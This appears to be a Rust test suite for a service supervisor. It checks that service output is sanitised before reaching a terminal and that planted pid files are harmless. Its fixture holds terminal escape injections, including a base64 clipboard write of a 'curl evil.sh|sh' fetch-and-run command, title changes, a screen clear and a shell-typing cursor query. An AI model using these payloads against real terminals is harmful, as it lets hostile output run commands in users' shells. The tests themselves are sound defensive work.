//! No service can take over the user's terminal: a service prints what an attacker
//! would (a clipboard write, title changes, a screen clear, a cursor-position request
//! whose answer a terminal types into the shell, a DCS, C1 controls, invalid UTF-8), and
//! every way its output reaches a terminal is run in a real one (tmux): `status`,
//! `logs`, `logs -f`, the foreground stream and a failure report. Only `logs --raw`
//! passes the bytes, for those who ask.

use std::process::Stdio;
use std::time::Duration;

use crate::harness::{Project, xtask_bin};
use crate::tmux::Tmux;

const SCREEN: Duration = Duration::from_secs(20);

/// One line as a hostile program writes it. It is longer than `status`'s 60 characters
/// with the cut inside the title sequence, and ends with colour and a visible `end`.
const HOSTILE: &[u8] = b"ok \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b]2;OWNED-TWO\x07\x1b]0;OWNED-ZERO\x07\
\x1b[2J\x1b[6n\x1bP1$qm\x1b\\ \xc2\x9b31m \x9b2J \xff\xfe \x1b[31mred\x1b[0m end\n";

/// A project whose `svc` prints the hostile line, then waits; `fails` prints it and
/// exits during startup (its start fails, and its log tail is reported).
fn hostile_project(failing: bool) -> Project {
    let svc = if failing {
        "[services.svc]\ncommand = \"cat hostile.txt; exit 1\"\nhealth = { command = \"false\", interval = \"50ms\" }\n"
    } else {
        "[services.svc]\ncommand = \"cat hostile.txt; exec sleep 1000\"\n"
    };
    let p = Project::new(svc);
    std::fs::write(p.path("hostile.txt"), HOSTILE).expect("write hostile.txt");
    p
}

/// Waits until `svc` has written its line (it has no health check: up as it starts).
fn wait_for_the_line(p: &Project) {
    crate::harness::wait_for("the hostile line in the log", SCREEN, || {
        std::fs::read(p.path(".xtask/logs/svc.log")).is_ok_and(|log| log.ends_with(b"end\n"))
    });
}

/// A shell in a terminal of its own, in the project, with xtask at hand as `$X`, the
/// clipboard open to programs (OSC 52 reaches tmux's buffers only so) and colour on.
fn terminal(p: &Project) -> Tmux {
    let config = p.path("services.toml");
    let bin = xtask_bin().to_string_lossy().into_owned();
    let env = [
        ("XTASK_CONFIG", config.to_str().expect("UTF-8 path")),
        ("X", bin.as_str()),
        ("PS1", "shell$ "),
    ];
    let shell = Tmux::start(&p.root, 150, 40, &env, &["bash", "--norc", "--noprofile"]);
    shell.set("set-clipboard", "on");
    shell.set("allow-rename", "on");
    shell.set("set-titles", "on");
    shell.wait_for_screen("the shell", SCREEN, |s| s.contains("shell$"));
    shell
}

/// Runs `command` in the shell, then a marker; returns the screen once the marker and
/// the prompt after it are shown.
fn run_in(term: &Tmux, command: &str, marker: &str) -> String {
    term.send(&["clear", "Enter"]);
    term.send(&[
        &format!("echo BEFORE-{marker}; {command}; echo AFTER-{marker}"),
        "Enter",
    ]);
    term.wait_for_screen(marker, SCREEN, |s| {
        s.lines().any(|l| l.trim() == format!("AFTER-{marker}")) && s.trim_end().ends_with("shell$")
    })
}

/// The terminal obeyed nothing of the hostile line.
#[track_caller]
fn assert_untouched(term: &Tmux, title: &str, screen: &str, marker: &str) {
    assert_eq!(term.clipboard(), "", "a service wrote the clipboard\n{screen}");
    assert_eq!(term.display("#{pane_title}"), title, "a service retitled the pane");
    // A screen clear would have taken the line printed before the command.
    assert!(
        screen.lines().any(|l| l.trim() == format!("BEFORE-{marker}")),
        "the screen was cleared:\n{screen}"
    );
    // The terminal's answer to `ESC[6n` (`ESC[row;colR`) would be typed into the shell.
    let answered = regex::Regex::new(r"\[\d+;\d+R").expect("regex");
    assert!(!answered.is_match(screen), "the terminal answered a query:\n{screen}");
    assert!(
        screen.contains("ok") && screen.contains("red end"),
        "the line's text is gone:\n{screen}"
    );
}

#[test]
fn a_hostile_service_cannot_drive_the_terminal_through_status_or_logs() {
    let p = hostile_project(false);
    p.xtask(&["start-bg"]).assert_ok();
    wait_for_the_line(&p);
    let term = terminal(&p);
    let title = term.display("#{pane_title}");

    let screen = run_in(&term, "\"$X\" status", "STATUS");
    assert_untouched(&term, &title, &screen, "STATUS");
    // The cut at 60 characters left no sequence open to swallow what follows the table.
    assert!(screen.contains("monitor: running"), "{screen}");

    let screen = run_in(&term, "\"$X\" logs", "LOGS");
    assert_untouched(&term, &title, &screen, "LOGS");
    // Colour passes on a terminal.
    let styled = term.screen_with_styles();
    assert!(styled.contains("\u{1b}[31mred"), "colour lost:\n{styled:?}");

    // Following: the line is written after `logs -f` began.
    term.send(&["clear", "Enter"]);
    term.send(&["echo BEFORE-FOLLOW; \"$X\" logs -f -n 0", "Enter"]);
    term.wait_for_screen("logs -f following", SCREEN, |s| s.contains("BEFORE-FOLLOW"));
    let log = p.path(".xtask/logs/svc.log");
    // Appended as a service appends: the same file, not a new one.
    let append = |bytes: &[u8]| {
        std::fs::OpenOptions::new()
            .append(true)
            .open(&log)
            .and_then(|mut f| std::io::Write::write_all(&mut f, bytes))
            .expect("append to the log");
    };
    // The shell echoes before `logs -f` has found the end of the log; a line appended
    // before that would be history, which `-n 0` skips. A harmless line, appended until
    // one is shown, says that it follows.
    crate::harness::wait_for("logs -f to follow", SCREEN, || {
        append(b"following?\n");
        term.screen().contains("following?")
    });
    append(HOSTILE);
    let screen = term.wait_for_screen("the followed line", SCREEN, |s| s.contains("red end"));
    term.send(&["C-c"]);
    assert_untouched(&term, &title, &screen, "FOLLOW");

    p.xtask(&["stop"]).assert_ok();
}

#[test]
fn the_foreground_stream_and_a_failure_report_are_sanitised_too() {
    let p = hostile_project(false);
    let term = terminal(&p);
    let title = term.display("#{pane_title}");
    term.send(&["clear", "Enter"]);
    term.send(&["echo BEFORE-FOREGROUND; \"$X\" start; echo AFTER-FOREGROUND", "Enter"]);
    let screen = term.wait_for_screen("the stream's line", SCREEN, |s| s.contains("red end"));
    assert_untouched(&term, &title, &screen, "FOREGROUND");
    term.send(&["C-c"]);
    term.wait_for_screen("the foreground start to end", SCREEN, |s| {
        s.lines().any(|l| l.trim() == "AFTER-FOREGROUND")
    });
    p.assert_nothing_running();

    let failing = hostile_project(true);
    let term = terminal(&failing);
    let title = term.display("#{pane_title}");
    let screen = run_in(&term, "\"$X\" start-bg", "FAILURE");
    assert!(screen.contains("svc"), "{screen}");
    assert_untouched(&term, &title, &screen, "FAILURE");
    failing.assert_nothing_running();
}

#[test]
fn logs_raw_passes_the_bytes_and_piped_logs_carry_no_sequence() {
    let p = hostile_project(false);
    p.xtask(&["start-bg"]).assert_ok();
    wait_for_the_line(&p);
    let output = |args: &[&str]| {
        p.command(args)
            .env_remove("NO_COLOR")
            .stdout(Stdio::piped())
            .output()
            .expect("run xtask logs")
    };
    let raw = output(&["logs", "--raw", "svc"]);
    assert!(raw.status.success());
    assert!(
        raw.stdout.windows(HOSTILE.len()).any(|w| w == HOSTILE),
        "`logs --raw` changed the bytes: {:?}",
        String::from_utf8_lossy(&raw.stdout)
    );
    // Into a pipe, not even colour passes.
    let piped = output(&["logs", "svc"]);
    let text = String::from_utf8_lossy(&piped.stdout);
    assert!(text.contains("ok") && text.contains("red end"), "{text}");
    assert!(
        !piped.stdout.iter().any(|b| *b == 0x1b || *b == 0x07 || *b == 0x9b),
        "a control byte reached the pipe: {text:?}"
    );
    p.xtask(&["stop"]).assert_ok();
}

/// C1 controls (U+009B CSI, U+009D OSC, U+009C ST as UTF-8), which a terminal in 8-bit
/// mode obeys, outside the plain log: in `status --json` (JSON lets them stand raw), in
/// an HTTP probe's error that quotes the server, and a `\r` that would redraw `logs
/// -t`'s time with a forged one.
#[test]
fn json_probe_errors_and_timestamps_carry_no_service_sequence() {
    let p = Project::new("[services.svc]\ncommand = \"cat lines.txt; exec sleep 1000\"\n");
    std::fs::write(
        p.path("lines.txt"),
        "x\r2020-01-01T00:00:00.000Z FORGED\n\u{9d}0;C1TITLE\u{9c} \u{9b}2J last\n",
    )
    .expect("write lines.txt");
    p.xtask(&["start-bg"]).assert_ok();
    crate::harness::wait_for("the last line in the log", SCREEN, || {
        std::fs::read_to_string(p.path(".xtask/logs/svc.log")).is_ok_and(|log| log.ends_with("last\n"))
    });

    let stamped = p.xtask(&["logs", "-t", "svc"]);
    stamped.assert_ok();
    let forged = stamped.stdout.lines().find(|l| l.contains("FORGED")).expect("the line");
    assert!(!forged.starts_with("2020-01-01"), "the line forged its time: {forged}");

    let json = p
        .command(&["status", "--json"])
        .stdout(Stdio::piped())
        .output()
        .expect("status");
    let text = String::from_utf8(json.stdout).expect("UTF-8 JSON");
    assert!(
        !text.chars().any(|c| ('\u{7f}'..='\u{9f}').contains(&c)),
        "a C1 control in status --json: {text:?}"
    );
    assert!(text.contains("\\u009d0;C1TITLE"), "the line is not in the JSON: {text}");
    p.xtask(&["stop"]).assert_ok();

    // A server whose redirect the probe cannot follow: the error quotes its header.
    let [port] = crate::harness::free_ports::<1>();
    let server = Project::new(&format!(
        "[services.web]\ncommand = \"python3 redirect.py {port}\"\n\
         health = {{ http = \"http://127.0.0.1:{port}/\", interval = \"100ms\", retries = 50 }}\n"
    ));
    server.write(
        "redirect.py",
        "import socket, sys\n\
         s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         s.bind(('127.0.0.1', int(sys.argv[1]))); s.listen()\n\
         while True:\n\
         \x20   c, _ = s.accept(); c.recv(4096)\n\
         \x20   c.sendall('HTTP/1.1 302 Found\\r\\nLocation: \\u009d2;C1LOC\\u009c\\r\\nContent-Length: 0\\r\\n\\r\\n'.encode())\n\
         \x20   c.close()\n",
    );
    let failed = server.xtask(&["start-bg"]);
    assert_ne!(failed.code, Some(0), "{failed}");
    assert!(
        failed.output().contains("C1LOC"),
        "the probe's error is not shown:\n{failed}"
    );
    assert!(
        !failed.output().chars().any(|c| ('\u{7f}'..='\u{9f}').contains(&c)),
        "a C1 control reached the terminal:\n{failed}"
    );
    server.assert_nothing_running();
}

/// A service prints one line of 200 MB (a minified bundle, `yes | tr -d '\n'`): `logs`,
/// `status` and a failure report still run within 256 MB of address space, the line
/// cut with a note of what was left out, and the line after it shown.
#[test]
fn a_huge_line_is_cut_not_held_whole() {
    let p = Project::new(
        "[services.big]\ncommand = \"head -c 200000000 /dev/zero | tr '\\\\0' A; echo; echo after; exec sleep 1000\"\n",
    );
    p.xtask(&["start-bg"]).assert_ok();
    crate::harness::wait_for("the line after the huge one", Duration::from_secs(60), || {
        std::fs::read(p.path(".xtask/logs/big.log")).is_ok_and(|log| log.ends_with(b"after\n"))
    });
    let limited = |args: &[&str]| {
        let config = p.path("services.toml");
        let out = std::process::Command::new("prlimit")
            .arg("--as=268435456")
            .arg(xtask_bin())
            .args(args)
            .env("XTASK_CONFIG", &config)
            .env("NO_COLOR", "1")
            .current_dir(&p.root)
            .output()
            .expect("run prlimit");
        assert!(
            out.status.success(),
            "{args:?} failed within 256 MB: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let logs = limited(&["logs", "-n", "2", "big"]);
    assert!(
        logs.contains("bytes of this line are in the log file"),
        "{}",
        &logs[..logs.len().min(300)]
    );
    assert!(logs.ends_with("after\n"), "{}", &logs[logs.len().saturating_sub(300)..]);
    assert!(
        logs.len() < 4 * 1024 * 1024,
        "logs printed {} bytes of one line",
        logs.len()
    );
    let status = limited(&["status"]);
    assert!(status.contains("after"), "{status}");
    p.xtask(&["stop"]).assert_ok();
}

/// A `pid_file` where another user can put anything (in /tmp): a FIFO and a link to
/// /dev/zero name no PID, and neither hangs a start nor grows the supervisor.
#[test]
fn a_pid_file_that_is_a_fifo_or_a_link_to_dev_zero_is_no_pid() {
    for plant in ["mkfifo", "ln -s /dev/zero"] {
        let p = Project::new("[services.daemon]\ncommand = \"sleep 1000 & exit 0\"\npid_file = \"app.pid\"\n");
        let planted = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("{plant} app.pid"))
            .current_dir(&p.root)
            .status()
            .expect("plant the pid file");
        assert!(planted.success());
        p.xtask_within(&["start-bg"], Duration::from_secs(20)).assert_ok();
        let monitor = p.monitor_pid().expect("a monitor");
        let rss_kb = std::fs::read_to_string(format!("/proc/{monitor}/status"))
            .expect("the monitor's status")
            .lines()
            .find_map(|l| {
                l.strip_prefix("VmHWM:")
                    .map(|v| v.trim().trim_end_matches(" kB").parse::<u64>())
            })
            .expect("VmHWM")
            .expect("a number");
        assert!(rss_kb < 64 * 1024, "{plant}: the monitor grew to {rss_kb} kB");
        p.xtask_within(&["stop"], Duration::from_secs(20)).assert_ok();
        p.assert_nothing_running();
    }
}
